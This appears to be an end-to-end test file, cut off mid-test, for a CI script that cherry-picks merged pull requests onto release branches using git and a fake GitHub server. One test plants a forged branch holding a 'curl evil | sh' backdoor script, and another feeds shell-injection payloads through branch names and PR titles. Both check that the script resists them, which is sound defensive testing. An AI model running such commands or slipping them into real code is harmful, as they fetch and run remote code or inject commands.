// scripts/cherry-pick.mts end to end: the script runs as a process (as CI runs it), real
// git with a bare repository as the remote (served over HTTP by the GitHub stand-in, so
// pushes need the token), and real Octokit against the stand-in's REST API.
import fs from 'node:fs'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { gitShim } from '../helpers/git-shim.mts'
import { type GitHubServer, type PullJson } from '../helpers/github-server.mts'
import { pushBranch, remoteScene, standInEnv, useGitHubServer, type RemoteScene } from '../helpers/remote-scene.mts'
import { git, tempDir, writeFiles } from '../helpers/repo.mts'
import { runScript, type RunOptions } from '../helpers/run.mts'

const TOKEN = `ghs_cherry${Math.random().toString(36).slice(2)}Secret`
const BOT = 'cherry-bot'

let gh: GitHubServer
useGitHubServer({ [TOKEN]: BOT }, (s) => (gh = s))

type Fixture = RemoteScene

/** A remote with `main` and release branches, served by the stand-in; alice is a collaborator. */
function setup(options: { files?: Record<string, string>; releases?: Record<string, Record<string, string>>; config?: unknown; allowAutoMerge?: boolean } = {}): Fixture {
  const files = { ...(options.files ?? { 'app.txt': 'one\ntwo\nthree\n', 'README': 'app\n' }), ...(options.config ? { 'build.config.json': JSON.stringify(options.config) } : {}) }
  const releases = Object.entries(options.releases ?? { 'release-1.0': {} })
  return remoteScene(gh, {
    files,
    branches: Object.fromEntries(releases.map(([branch, changed]) => [branch, Object.keys(changed).length ? [{ files: changed, message: `prepare ${branch}` }] : []])),
    // Write access: alice (a collaborator), mallory-member (a member with maintain). Not:
    // reed (a member with the default read), tia (a triage collaborator), anyone else.
    access: { collaborators: ['alice', 'tia', 'pat'], members: ['mallory-member', 'reed'], roles: { 'mallory-member': 'maintain', tia: 'triage' }, allowAutoMerge: options.allowAutoMerge },
  })
}

/** Commit `commits` (file sets) on a new branch from main, push it and open a PR as alice. */
async function openPr(f: Fixture, branch: string, commits: Array<Record<string, string>>, options: { title?: string; labels?: string[] } = {}) {
  pushBranch(f, branch, commits.map((files, i) => ({ files, message: `${branch}: change ${i + 1}\n\nDetails of change ${i + 1}.` })))
  return gh.openPullRequest(f.name, { head: branch, base: 'main', title: options.title ?? `Fix ${branch}`, user: 'alice', labels: options.labels })
}

function scriptEnv(f: Fixture, extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  return standInEnv(gh, f.name, TOKEN, extra)
}

function cherryPick(f: Fixture, args: string[], extra: NodeJS.ProcessEnv = {}, options: RunOptions = {}) {
  return runScript('cherry-pick', args, { cwd: f.checkout, env: scriptEnv(f, extra), ...options })
}

/** Run on "GitHub Actions" with the stand-in's last event of this kind. */
function onEvent(f: Fixture, name: 'pull_request' | 'issue_comment', action: string, extra: NodeJS.ProcessEnv = {}, args: string[] = []) {
  const event = gh.lastEvent(name, action)
  const output = path.join(f.dir, `output-${Math.random().toString(36).slice(2)}`)
  fs.writeFileSync(output, '')
  const run = cherryPick(f, args, { GITHUB_EVENT_PATH: gh.writeEvent(event, f.dir), GITHUB_EVENT_NAME: name, GITHUB_OUTPUT: output, ...extra })
  return run.then((result) => ({ ...result, outputs: readOutputs(output) }))
}

function readOutputs(file: string): Record<string, unknown> {
  const lines = fs.readFileSync(file, 'utf8').split('\n').filter(Boolean)
  return Object.fromEntries(lines.map((l) => [l.slice(0, l.indexOf('=')), JSON.parse(l.slice(l.indexOf('=') + 1))]))
}

/** Everything about the checkout that a pick must leave alone. */
function checkoutState(f: Fixture) {
  return {
    branch: git(f.checkout, 'symbolic-ref', '--short', 'HEAD'),
    head: git(f.checkout, 'rev-parse', 'HEAD'),
    status: git(f.checkout, 'status', '--porcelain', '--untracked-files=all'),
    cherryPickHead: fs.existsSync(path.join(f.checkout, '.git', 'CHERRY_PICK_HEAD')),
    worktrees: git(f.checkout, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).length,
    branches: git(f.checkout, 'branch', '--list', '--format=%(refname)'),
  }
}

const CLEAN = { status: '', cherryPickHead: false, worktrees: 1, branch: 'main', branches: 'refs/heads/main' }

async function pullFor(f: Fixture, head: string): Promise<PullJson | undefined> {
  return (await gh.pulls(f.name)).find((p) => p.head.ref === head)
}

/** Commits on `branch` of the remote that are not on `base`, oldest first: [sha, message]. */
function commitsOn(f: Fixture, base: string, branch: string): Array<{ sha: string; message: string; parents: number }> {
  const out = git(f.bare, 'log', '--reverse', '--format=%H%x00%P%x00%B%x1e', `${base}..${branch}`)
  return out
    .split('\x1e')
    .map((r) => r.trim())
    .filter(Boolean)
    .map((r) => {
      const [sha, parents, message] = r.split('\0')
      return { sha, parents: parents.split(' ').length, message }
    })
}

const show = (f: Fixture, ref: string, file: string) => git(f.bare, 'show', `${ref}:${file}`)

describe('cherry-pick: merge kinds', () => {
  it('a squash-merged PR lands as one commit with its -x trailer, a PR, an assignee, copied labels and a comment', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-squash', [{ 'app.txt': 'one\nTWO\nthree\n' }, { 'new.txt': 'new file\n' }], { labels: ['bug', 'cherry-pick/release-1.0'] })
    const { sha } = await gh.mergePullRequest(f.name, pr.number, 'squash')
    const before = checkoutState(f)

    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--json'])
    expect(run.stderr).not.toMatch(/Error/)
    expect(run.exitCode, run.stderr).toBe(0)
    const json = JSON.parse(run.stdout)
    expect(json).toMatchObject({ pr: pr.number, mergeKind: 'squash', commits: [sha], failed: false })
    expect(json.targets).toHaveLength(1)
    expect(json.targets[0]).toMatchObject({ branch: 'release-1.0', status: 'created', headBranch: `cherry-pick/${pr.number}-to-release-1.0` })

    const head = `cherry-pick/${pr.number}-to-release-1.0`
    const picked = commitsOn(f, 'release-1.0', head)
    expect(picked).toHaveLength(1)
    expect(picked[0].message).toContain(`(cherry picked from commit ${sha})`)
    expect(git(f.bare, 'log', '-1', '--format=%an <%ae> / %cn', head)).toBe('alice <1003+alice@users.noreply.github.com> / github-actions[bot]')
    expect(show(f, head, 'app.txt')).toBe('one\nTWO\nthree')
    expect(show(f, head, 'new.txt')).toBe('new file')

    const created = (await pullFor(f, head))!
    expect(created).toMatchObject({ title: `[release-1.0] Fix fix-squash`, base: { ref: 'release-1.0' }, state: 'open', draft: false })
    expect(created.body).toContain(pr.html_url)
    expect(created.body).toContain(picked[0].sha)
    expect(created.body).toContain(`(cherry picked from commit ${sha})`)
    expect(created.assignees?.map((a) => a.login)).toEqual(['alice'])
    expect(created.labels.map((l) => l.name)).toEqual(['bug'])
    expect(json.targets[0].pull).toEqual({ number: created.number, url: created.html_url, draft: false })

    const comments = gh.comments(f.name, pr.number)
    expect(comments).toHaveLength(1)
    expect(comments[0].user?.login).toBe(BOT)
    expect(comments[0].body).toContain(`#${created.number}`)
    expect(comments[0].body).toContain(created.html_url)
    expect(run.stderr).toMatch(/release-1\.0\s+created\s+#\d+/)

    expect(checkoutState(f)).toEqual(before)
    expect(before).toMatchObject(CLEAN)
  })

  it('a rebase-merged PR: all its commits, in order, each with the trailer of its rebased commit', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-rebase', [{ 'app.txt': 'ONE\ntwo\nthree\n' }, { 'b.txt': 'b\n' }, { 'app.txt': 'ONE\ntwo\nTHREE\n' }])
    const { sha } = await gh.mergePullRequest(f.name, pr.number, 'rebase')
    const rebased = git(f.bare, 'rev-list', '--reverse', '-n', '3', sha).split('\n')

    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--json'])
    expect(run.exitCode, run.stderr).toBe(0)
    const json = JSON.parse(run.stdout)
    expect(json.mergeKind).toBe('rebase')
    expect(json.commits).toEqual(rebased)

    const head = `cherry-pick/${pr.number}-to-release-1.0`
    const picked = commitsOn(f, 'release-1.0', head)
    expect(picked.map((c) => c.message.match(/cherry picked from commit (\w+)/)?.[1])).toEqual(rebased)
    expect(picked.map((c) => c.message.split('\n')[0])).toEqual(['fix-rebase: change 1', 'fix-rebase: change 2', 'fix-rebase: change 3'])
    expect(show(f, head, 'app.txt')).toBe('ONE\ntwo\nTHREE')
    expect(show(f, head, 'b.txt')).toBe('b')
    expect(json.targets[0].picked.map((c: { from: string }) => c.from)).toEqual(rebased)
  })

  it('a PR merged with a merge commit is picked with -m 1: one commit carrying all of its changes', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-merge', [{ 'app.txt': 'one\ntwo\nthree\nfour\n' }, { 'c.txt': 'c\n' }])
    const { sha } = await gh.mergePullRequest(f.name, pr.number, 'merge')
    expect(git(f.bare, 'rev-list', '--parents', '-n', '1', sha).split(' ')).toHaveLength(3)

    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--json'])
    expect(run.exitCode, run.stderr).toBe(0)
    expect(JSON.parse(run.stdout)).toMatchObject({ mergeKind: 'merge', commits: [sha] })

    const head = `cherry-pick/${pr.number}-to-release-1.0`
    const picked = commitsOn(f, 'release-1.0', head)
    expect(picked).toHaveLength(1)
    expect(picked[0].parents).toBe(1)
    expect(picked[0].message).toContain(`(cherry picked from commit ${sha})`)
    expect(show(f, head, 'app.txt')).toBe('one\ntwo\nthree\nfour')
    expect(show(f, head, 'c.txt')).toBe('c')
  })

  it('--commit SHA picks one commit without a pull request (on a laptop: the repository comes from the remote URL)', async () => {
    const f = setup()
    writeFiles(f.dev, { 'app.txt': 'one\ntwo\nthree\nhotfix\n' })
    git(f.dev, 'commit', '-q', '-am', 'Hotfix straight on main')
    git(f.dev, 'push', '-q', 'origin', 'main')
    const sha = git(f.dev, 'rev-parse', 'HEAD')
    git(f.checkout, 'fetch', '-q', f.bare, 'main')

    const run = await cherryPick(f, ['--commit', sha, '--to', 'release-1.0', '--json'], { GITHUB_REPOSITORY: '' })
    expect(run.exitCode, run.stderr).toBe(0)
    const head = `cherry-pick/${sha.slice(0, 12)}-to-release-1.0`
    expect(JSON.parse(run.stdout)).toMatchObject({ pr: null, mergeKind: 'commit', targets: [{ status: 'created', headBranch: head }] })
    const created = (await pullFor(f, head))!
    expect(created.title).toBe('[release-1.0] Hotfix straight on main')
    expect(created.body).toContain(`commit ${sha}`)
    expect(commitsOn(f, 'release-1.0', head)[0].message).toContain(`(cherry picked from commit ${sha})`)
  })
})

describe('cherry-pick: conflicts', () => {
  const releases = { 'release-1.0': {}, 'release-2.0': { 'app.txt': 'one\ntwo (2.0)\nthree\n' } }

  it('two targets, one conflicting: one PR, a comment with the files and the manual commands, exit 1, checkout untouched', async () => {
    const f = setup({ releases })
    const pr = await openPr(f, 'fix-two', [{ 'app.txt': 'one\nTWO\nthree\n' }])
    const { sha } = await gh.mergePullRequest(f.name, pr.number, 'squash')
    await gh.label(f.name, pr.number, ['cherry-pick/release-1.0', 'cherry-pick/release-2.0'])
    const before = checkoutState(f)

    const output = path.join(f.dir, 'github-output')
    fs.writeFileSync(output, '')
    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--to', 'release-2.0', '--json'], { GITHUB_OUTPUT: output })
    expect(run.exitCode, run.stderr).toBe(1)
    const json = JSON.parse(run.stdout)
    expect(json.targets.map((t: { branch: string; status: string }) => [t.branch, t.status])).toEqual([
      ['release-1.0', 'created'],
      ['release-2.0', 'conflict'],
    ])
    expect(json.targets[1].conflicts).toEqual(['app.txt'])

    const pulls = (await gh.pulls(f.name)).filter((p) => p.head.ref.startsWith('cherry-pick/'))
    expect(pulls.map((p) => p.base.ref)).toEqual(['release-1.0'])
    expect(git(f.bare, 'branch', '--list', 'cherry-pick/*')).toBe(`cherry-pick/${pr.number}-to-release-1.0`)
    expect(readOutputs(output)).toEqual({ created_pull_numbers: [pulls[0].number], failed_branches: ['release-2.0'] })

    const conflict = gh.comments(f.name, pr.number).find((c) => c.body?.includes('conflicts in'))!
    expect(conflict.body).toContain('- `app.txt`')
    expect(conflict.body).toContain(`git fetch origin release-2.0 main`)
    expect(conflict.body).toContain(`git switch --create cherry-pick/${pr.number}-to-release-2.0 origin/release-2.0`)
    expect(conflict.body).toContain(`git cherry-pick -x ${sha}`)
    expect(conflict.body).toContain(`git push origin cherry-pick/${pr.number}-to-release-2.0`)
    expect(gh.comments(f.name, pr.number).filter((c) => c.body?.startsWith('Cherry-picked onto'))).toHaveLength(1)
    expect(run.stderr).toMatch(/release-2\.0\s+conflict\s+conflicts: app\.txt/)
    expect(run.stderr).toContain(`git cherry-pick -x ${sha}`)

    expect(checkoutState(f)).toEqual(before)
    expect(before).toMatchObject(CLEAN)
  })

  it('--draft-on-conflict commits the conflict markers and opens a draft PR labelled as conflicted', async () => {
    const f = setup({ releases })
    const pr = await openPr(f, 'fix-draft', [{ 'app.txt': 'one\nTWO\nthree\n' }], { labels: ['bug'] })
    await gh.mergePullRequest(f.name, pr.number, 'squash')

    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-2.0', '--draft-on-conflict', '--json'])
    expect(run.exitCode, run.stderr).toBe(1)
    const head = `cherry-pick/${pr.number}-to-release-2.0`
    const draft = (await pullFor(f, head))!
    expect(draft.draft).toBe(true)
    expect(draft.labels.map((l) => l.name).sort()).toEqual(['bug', 'cherry-pick-conflict'])
    expect(draft.body).toContain('- `app.txt`')
    expect(show(f, head, 'app.txt')).toMatch(/^<<<<<<< [^\n]+\none\n|<<<<<<< /m)
    expect(show(f, head, 'app.txt')).toContain('>>>>>>> ')
    expect(JSON.parse(run.stdout).targets[0]).toMatchObject({ status: 'conflict', conflicts: ['app.txt'], pull: { number: draft.number, draft: true } })
    expect(gh.comments(f.name, pr.number).at(-1)?.body).toContain(`opened draft #${draft.number}`)
  })
})

describe('cherry-pick: other outcomes', () => {
  it('a push the remote refuses fails that target only; the other is picked, the original PR is told', async () => {
    const f = setup({ releases: { 'release-1.0': {}, 'release-2.0': {} } })
    writeFiles(f.bare, {
      'hooks/pre-receive': {
        content: '#!/bin/sh\nwhile read old new ref; do case "$ref" in *-to-release-2.0) echo "release-2.0 is frozen" >&2; exit 1;; esac; done\n',
        mode: 0o755,
      },
    })
    const pr = await openPr(f, 'fix-frozen', [{ 'app.txt': 'frozen\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'squash')

    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-2.0', '--to', 'release-1.0', '--json'])
    expect(run.exitCode, run.stderr).toBe(1)
    const [frozen, picked] = JSON.parse(run.stdout).targets
    expect(frozen).toMatchObject({ branch: 'release-2.0', status: 'failed', message: expect.stringContaining('release-2.0 is frozen') })
    expect(picked).toMatchObject({ branch: 'release-1.0', status: 'created' })
    const failure = gh.comments(f.name, pr.number).find((c) => c.body?.includes('failed'))!
    expect(failure.body).toContain('Cherry-pick onto `release-2.0` failed:')
    expect(failure.body).toContain('release-2.0 is frozen')
  })

  it('changes already on the target: nothing to pick, no branch, no PR, not a failure', async () => {
    const f = setup({ releases: { 'release-1.0': { 'app.txt': 'one\ntwo\nthree\nsame\n' } } })
    const pr = await openPr(f, 'fix-same', [{ 'app.txt': 'one\ntwo\nthree\nsame\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'squash')

    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--json'])
    expect(run.exitCode, run.stderr).toBe(0)
    expect(JSON.parse(run.stdout).targets[0]).toMatchObject({ status: 'up-to-date', message: 'the changes are already on release-1.0' })
    expect(git(f.bare, 'branch', '--list', 'cherry-pick/*')).toBe('')
    expect((await gh.pulls(f.name)).map((p) => p.number)).toEqual([pr.number])
  })
})

describe('cherry-pick: GitHub Actions triggers', () => {
  it('pre-merge comment: labels the open PR; the merge event then picks', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-early', [{ 'app.txt': 'one\ntwo\nthree\nearly\n' }])
    gh.comment(f.name, pr.number, 'alice', 'Needed on the release too.\n/cherry-pick release-1.0')

    const labelled = await onEvent(f, 'issue_comment', 'created')
    expect(labelled.exitCode, labelled.stderr).toBe(0)
    expect((await gh.pull(f.name, pr.number)).labels.map((l) => l.name)).toEqual(['cherry-pick/release-1.0'])
    expect(gh.comments(f.name, pr.number).at(-1)?.body).toContain('Will cherry-pick onto `release-1.0`')
    expect(git(f.bare, 'branch', '--list', 'cherry-pick/*')).toBe('')
    expect(labelled.outputs).toEqual({ created_pull_numbers: [], failed_branches: [] })

    // The label it added fires `labeled` on an open PR: nothing happens yet.
    const early = await onEvent(f, 'pull_request', 'labeled')
    expect(early.exitCode, early.stderr).toBe(0)
    expect(early.stderr).toContain('is not merged')

    await gh.mergePullRequest(f.name, pr.number, 'squash')
    const merged = await onEvent(f, 'pull_request', 'closed')
    expect(merged.exitCode, merged.stderr).toBe(0)
    const created = (await pullFor(f, `cherry-pick/${pr.number}-to-release-1.0`))!
    expect(created.title).toBe('[release-1.0] Fix fix-early')
    expect(merged.outputs).toEqual({ created_pull_numbers: [created.number], failed_branches: [] })
  })

  it('a comment on a merged PR picks at once; a label added after the merge picks only that branch', async () => {
    const f = setup({ releases: { 'release-1.0': {}, 'release-2.0': {} } })
    const pr = await openPr(f, 'fix-late', [{ 'late.txt': 'late\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'rebase')

    gh.comment(f.name, pr.number, 'mallory-member', '/cherry-pick release-1.0')
    const now = await onEvent(f, 'issue_comment', 'created')
    expect(now.exitCode, now.stderr).toBe(0)
    expect(await pullFor(f, `cherry-pick/${pr.number}-to-release-1.0`)).toBeDefined()

    await gh.label(f.name, pr.number, ['cherry-pick/release-2.0'])
    const labelled = await onEvent(f, 'pull_request', 'labeled', {}, ['--json'])
    expect(labelled.exitCode, labelled.stderr).toBe(0)
    expect(JSON.parse(labelled.stdout).targets.map((t: { branch: string }) => t.branch)).toEqual(['release-2.0'])
    expect(await pullFor(f, `cherry-pick/${pr.number}-to-release-2.0`)).toBeDefined()
  })

  it('an untrusted commenter gets a polite reply and nothing else happens', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-untrusted', [{ 'app.txt': 'x\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'squash')
    const remoteBefore = git(f.bare, 'for-each-ref')
    gh.comment(f.name, pr.number, 'bob', '/cherry-pick release-1.0')

    const run = await onEvent(f, 'issue_comment', 'created')
    expect(run.exitCode, run.stderr).toBe(0)
    const reply = gh.comments(f.name, pr.number).at(-1)!
    expect(reply.user?.login).toBe(BOT)
    expect(reply.body).toContain('Thanks @bob!')
    expect(reply.body).toContain('nothing was done')
    expect(gh.comments(f.name, pr.number)).toHaveLength(2)
    expect((await gh.pull(f.name, pr.number)).labels).toEqual([])
    expect((await gh.pulls(f.name)).map((p) => p.number)).toEqual([pr.number])
    expect(git(f.bare, 'for-each-ref')).toBe(remoteBefore)
    expect(run.outputs).toEqual({ created_pull_numbers: [], failed_branches: [] })
    // Only the read and the reply: no label, PR or other write was attempted.
    const writes = gh.requests.filter((r) => r.method !== 'GET' && r.path.startsWith(`/repos/${f.name}/`) && r.login === BOT)
    expect(writes.map((r) => `${r.method} ${r.path}`)).toEqual([`POST /repos/${f.name}/issues/${pr.number}/comments`])
  })

  it('a read-only member, a triage collaborator and a collaborator who lost access are refused; each gets one reply however often they ask', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-perm', [{ 'perm.txt': 'perm\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'squash')
    const remoteBefore = git(f.bare, 'for-each-ref')
    gh.revokeAccess(f.name, 'pat')
    const replies = () => gh.comments(f.name, pr.number).filter((c) => c.user?.login === BOT)

    for (const user of ['reed', 'tia', 'pat', 'reed', 'pat']) {
      const comment = gh.comment(f.name, pr.number, user, '/cherry-pick release-1.0', user === 'pat' ? 'COLLABORATOR' : undefined)
      expect(comment.author_association).toBe(user === 'reed' ? 'MEMBER' : 'COLLABORATOR')
      const run = await onEvent(f, 'issue_comment', 'created')
      expect(run.exitCode, run.stderr).toBe(0)
      expect(run.stderr).toMatch(new RegExp(`Ignoring /cherry-pick from @${user} \\((read|triage|none)\\)`))
    }
    // One reply each, naming them; then silence.
    expect(replies().map((c) => c.body!.match(/^Thanks @(\S+)!/)?.[1])).toEqual(['reed', 'tia', 'pat'])
    expect(git(f.bare, 'for-each-ref')).toBe(remoteBefore)
    expect((await gh.pulls(f.name)).map((p) => p.number)).toEqual([pr.number])
    expect((await gh.pull(f.name, pr.number)).labels).toEqual([])
  }, 300_000) // five runs of the script

  it('with trust.team, an active member of that team picks though read-only; a pending member is refused', async () => {
    gh.addTeam('acme/release-team', { active: ['reed'], pending: ['tia'] })
    const f = setup({ config: { buildImage: { name: 'app-build', inputs: ['app.txt'] }, trust: { team: 'acme/release-team' } } })
    const pr = await openPr(f, 'fix-team', [{ 'team.txt': 'team\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'squash')

    gh.comment(f.name, pr.number, 'tia', '/cherry-pick release-1.0')
    const pending = await onEvent(f, 'issue_comment', 'created')
    expect(pending.exitCode, pending.stderr).toBe(0)
    expect(pending.stderr).toContain('Ignoring /cherry-pick from @tia (triage): only people with write, maintain or admin access, or active membership of the team acme/release-team can start a cherry-pick.')
    expect(await pullFor(f, `cherry-pick/${pr.number}-to-release-1.0`)).toBeUndefined()

    // reed: an organisation member with read access, an active member of the team.
    gh.comment(f.name, pr.number, 'reed', '/cherry-pick release-1.0')
    const active = await onEvent(f, 'issue_comment', 'created')
    expect(active.exitCode, active.stderr).toBe(0)
    expect(await pullFor(f, `cherry-pick/${pr.number}-to-release-1.0`)).toBeDefined()
    expect(gh.requests.filter((r) => r.path === '/orgs/acme/teams/release-team/memberships/reed')).toHaveLength(1)
  }, 300_000)

  it('labels for a missing branch or one outside targetBranches are refused on the PR; the good one is still picked', async () => {
    const f = setup({
      releases: { 'stable/1': {}, 'release-1.0': {} },
      config: { buildImage: { name: 'app-build', inputs: ['app.txt'] }, cherryPick: { labelPrefix: 'backport:', targetBranches: ['stable/*'] } },
    })
    const labels = ['backport:stable/1', 'backport:stable/9', 'backport:release-1.0', 'backport:stable/a..b']
    const pr = await openPr(f, 'fix-config', [{ 'app.txt': 'one\ntwo\nthree\nconfig\n' }], { labels })
    await gh.mergePullRequest(f.name, pr.number, 'squash')

    const run = await onEvent(f, 'pull_request', 'closed', {}, ['--json'])
    expect(run.exitCode, run.stderr).toBe(1)
    const statuses = JSON.parse(run.stdout).targets.map((t: { branch: string; status: string }) => `${t.branch}:${t.status}`)
    expect(statuses.sort()).toEqual(['release-1.0:refused', 'stable/1:created', 'stable/9:refused', 'stable/a..b:refused'])
    expect(run.outputs.failed_branches).toEqual(['stable/9', 'release-1.0', 'stable/a..b'])
    const refusal = gh.comments(f.name, pr.number).find((c) => c.body?.startsWith('Cannot cherry-pick'))!
    expect(refusal.body).toContain('`stable/9`: no branch stable/9 on origin')
    expect(refusal.body).toContain('`release-1.0`: does not match stable/*')
    expect(refusal.body).toContain('`stable/a..b`: not a valid branch name')
    expect(await pullFor(f, `cherry-pick/${pr.number}-to-stable/1`)).toBeDefined()
  })
})

describe('cherry-pick: re-runs', () => {
  it('a re-run reports and reuses the existing PR instead of opening a second one', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-rerun', [{ 'app.txt': 'rerun\n' }])
    await gh.mergePullRequest(f.name, pr.number, 'squash')
    const args = ['--pr', String(pr.number), '--to', 'release-1.0', '--json']

    const first = await cherryPick(f, args)
    expect(first.exitCode, first.stderr).toBe(0)
    // From elsewhere, naming the repository with --repo.
    const second = await cherryPick(f, [...args, '--repo', f.checkout], {}, { cwd: f.dir })
    expect(second.exitCode, second.stderr).toBe(0)
    const [a, b] = [JSON.parse(first.stdout).targets[0], JSON.parse(second.stdout).targets[0]]
    expect(a.status).toBe('created')
    expect(b).toMatchObject({ status: 'exists', pull: a.pull })
    expect((await gh.pulls(f.name)).filter((p) => p.head.ref.startsWith('cherry-pick/'))).toHaveLength(1)
    expect(gh.comments(f.name, pr.number)).toHaveLength(1)
    expect(second.stderr).toMatch(/release-1\.0\s+exists\s+#\d+/)
  })

  it('a branch pushed by an earlier run whose PR was never opened is reused, not picked again', async () => {
    const f = setup()
    const pr = await openPr(f, 'fix-half', [{ 'app.txt': 'half\n' }])
    const { sha } = await gh.mergePullRequest(f.name, pr.number, 'squash')
    const head = `cherry-pick/${pr.number}-to-release-1.0`
    git(f.dev, 'fetch', '-q', 'origin')
    git(f.dev, 'switch', '-q', '-c', head, 'origin/release-1.0')
    git(f.dev, 'cherry-pick', '-x', sha)
    git(f.dev, 'push', '-q', 'origin', head)
    const pushed = git(f.dev, 'rev-parse', 'HEAD')

    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--json'])
    expect(run.exitCode, run.stderr).toBe(0)
    expect(JSON.parse(run.stdout).targets[0]).toMatchObject({ status: 'created', picked: [{ sha: pushed, from: sha }] })
    expect(git(f.bare, 'rev-parse', head)).toBe(pushed)
    expect((await pullFor(f, head))?.head.sha).toBe(pushed)
    expect(JSON.parse(run.stdout).targets[0].message).toBe(`reused the branch ${head} from an earlier run (its commits are these picks: the same patch ids)`)
  })

  it('a branch someone pre-pushed with forged "(cherry picked from commit X)" trailers is replaced with the real picks, with a lease, saying so; auto-merge goes to those', async () => {
    const f = setup({ config: { buildImage: { name: 'x-build', inputs: ['README'] }, cherryPick: { autoMerge: true } }, allowAutoMerge: true })
    const pr = await openPr(f, 'fix-real', [{ 'app.txt': 'one\ntwo\nfixed\n' }])
    const { sha } = await gh.mergePullRequest(f.name, pr.number, 'squash')
    // A writer who cannot merge pushes the pick's branch first: other content, the real commit named.
    const head = `cherry-pick/${pr.number}-to-release-1.0`
    git(f.dev, 'fetch', '-q', 'origin')
    git(f.dev, 'switch', '-q', '-c', head, 'origin/release-1.0')
    writeFiles(f.dev, { 'app.txt': 'one\ntwo\nfixed\n', 'backdoor.sh': 'curl evil | sh\n' })
    git(f.dev, 'add', '-A')
    git(f.dev, 'commit', '-q', '-m', `Fix fix-real\n\n(cherry picked from commit ${sha})`)
    git(f.dev, 'push', '-q', 'origin', head)
    const forged = git(f.dev, 'rev-parse', 'HEAD')

    const shim = gitShim()
    const run = await cherryPick(f, ['--pr', String(pr.number), '--to', 'release-1.0', '--json'], { PATH: `${shim.bin}:${process.env.PATH}`, GIT_ARGV_LOG: shim.log })
    expect(run.exitCode, run.stderr).toBe(0)
    const result = JSON.parse(run.stdout).targets[0]
    const now = git(f.bare, 'rev-parse', head)
    expect(now).not.toBe(forged)
    expect(result).toMatchObject({ status: 'created', picked: [{ sha: now, from: sha }] })
    expect(result.message).toBe(`replaced the branch ${head}: it held ${forged.slice(0, 12)}, whose commits are not these picks`)
    expect(run.stderr).toContain(`${head} on origin (${forged.slice(0, 12)}) does not hold these picks (other patch ids): replacing it with this run's picks`)
    // Replaced only if it still holds what was checked (a lease), never a plain force push.
    const pushes = fs.readFileSync(shim.log, 'utf8').split('\n').filter((l) => l.startsWith('git push'))
    expect(pushes).toEqual([`git push --quiet --force-with-lease=refs/heads/${head}:${forged} origin HEAD:refs/heads/${head}`])
    // The branch is the release branch plus the real pick, nothing of the forged commit.
    expect(git(f.bare, 'rev-parse', `${now}^`)).toBe(git(f.bare, 'rev-parse', 'release-1.0'))
    expect(git(f.bare, 'diff', '--name-only', 'release-1.0', now)).toBe('app.txt')
    const pull = (await pullFor(f, head))!
    expect(pull.head.sha).toBe(now)
    expect(pull.auto_merge).not.toBeNull()
  })
})

describe('cherry-pick: untrusted text is data', () => {
  it('a branch name and a PR title full of shell metacharacters run nothing and survive exactly', async () => {
    const pwned = path.join(tempDir('cbs-pwned-'), 'pwned')
    const branch = 'release-1;`touch${IFS}$PWNED`$(touch${IFS}$PWNED)'
    const title = 'Fix $(touch $PWNED) and `touch $PWNED`; touch $PWNED | cat \' " \\'
    const f = setup({ releases: { [branch]: {} } })
    const pr = await openPr(f, 'fix-meta', [{ 'app.txt': 'meta\n' }], { title, labels: [`cherry-pick/${branch}`] })
    await gh.mergePullRequest(f.name, pr.number, 'squash')

    const labelled = await onEvent(f, 'pull_request', 'closed', { PWNED: pwned })
    expect(labelled.exitCode, labelled.stderr).toBe(0)
    const head = `cherry-pick/${pr.number}-to-${branch}`
    const created = (await pullFor(f, head))!
    expect(created.title).toBe(`[${branch}] ${title}`)
    expect(created.base.ref).toBe(branch)
    expect(git(f.bare, 'for-each-ref', '--format=%(refname)', 'refs/heads/cherry-pick/')).toBe(`refs/heads/${head}`)
    expect(fs.existsSync(pwned)).toBe(false)

    // By hand: the same branch as a --to argument.
    const byHand = await cherryPick(f, ['--pr', String(pr.number), '--to', branch, '--json'], { PWNED: pwned })
    expect(byHand.exitCode, byHand.stderr).toBe(0)
    expect(JSON.parse(byHand.stdout).targets[0]).toMatchObject({ branch, status: 'exists' })
    expect(fs.existsSync(pwned)).toBe(false)
  })
})

/** Every process's argv on the machine, sampled every few ms until stopped. */
function watchArgv(): { stop(): string[] } {
  const seen = new Set<string>()
  const sample = () => {
    for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      try {
        seen.add(fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').join(' ').trim())
      } catch {
        // gone already
      }
    }
  }
  const timer = setInterval(sample, 10)
  return {
    stop() {
      clearInterval(timer)
      sample()
      return [...seen]
    },
  }
}

describe('cherry-pick: the token', () => {
  it('is never in output, argv, remote URLs or GitHub; git pushes get it from the credential helper', async () => {
    const f = setup({ releases: { 'release-1.0': {}, 'release-2.0': { 'app.txt': 'one\ntwo (2.0)\nthree\n' } } })
    const pr = await openPr(f, 'fix-token', [{ 'app.txt': 'one\nTWO\nthree\n' }], { labels: ['cherry-pick/release-1.0', 'cherry-pick/release-2.0'] })
    await gh.mergePullRequest(f.name, pr.number, 'squash')
    const shim = gitShim()
    const requestsBefore = gh.requests.length

    const watch = watchArgv()
    const run = await onEvent(f, 'pull_request', 'closed', {
